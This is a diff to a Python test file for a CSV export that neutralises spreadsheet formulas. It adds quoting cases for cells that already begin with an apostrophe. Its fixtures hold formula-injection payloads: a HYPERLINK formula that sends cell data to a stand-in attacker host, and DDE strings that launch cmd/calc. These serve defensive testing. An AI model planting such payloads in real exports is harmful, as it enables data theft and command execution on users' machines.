@@ -475,7 +475,7 @@ async def test_a_unique_clash_in_a_bulk_insert_is_an_integrity_error(registry, n
 @pytest.mark.parametrize(("cell", "written"), [
     ("=1+1", "'=1+1"), ("+82 2 000", "'+82 2 000"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tx", "'\tx"), ("\rx", "'\rx"), (-5, "'-5"), (2012, "2012"), ("Haessal", "Haessal"), (None, ""),
-    ("'=already quoted", "'=already quoted"),
+    ("'=already quoted", "''=already quoted"), ("''-2", "'''-2"), ("'plain", "'plain"), ("'", "'"),
 ])
 def test_csv_cells_that_start_a_formula_are_quoted(cell, written):
     assert neutralised(cell) == written
@@ -497,7 +497,8 @@ async def test_csv_export_neutralises_formulas_and_still_imports_as_it_was(regis
     partner = registry.partner()
     hostile = {
         "names": [{"value": '=HYPERLINK("https://evil.example/?"&A1,"Click")', "lang": "en"},
-                  {"value": "+cmd|' /C calc'!A0", "lang": "ko"}],
+                  {"value": "+cmd|' /C calc'!A0", "lang": "ko"}, {"value": "'+Second", "lang": "ja"},
+                  {"value": "'quoted'", "lang": "zh"}],
         "descriptions": [{"value": "-2+3+cmd|' /C calc'!A0", "lang": "en"}],
         "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
         "kind": "social_enterprise", "country": "KR", "region": "KR-11",
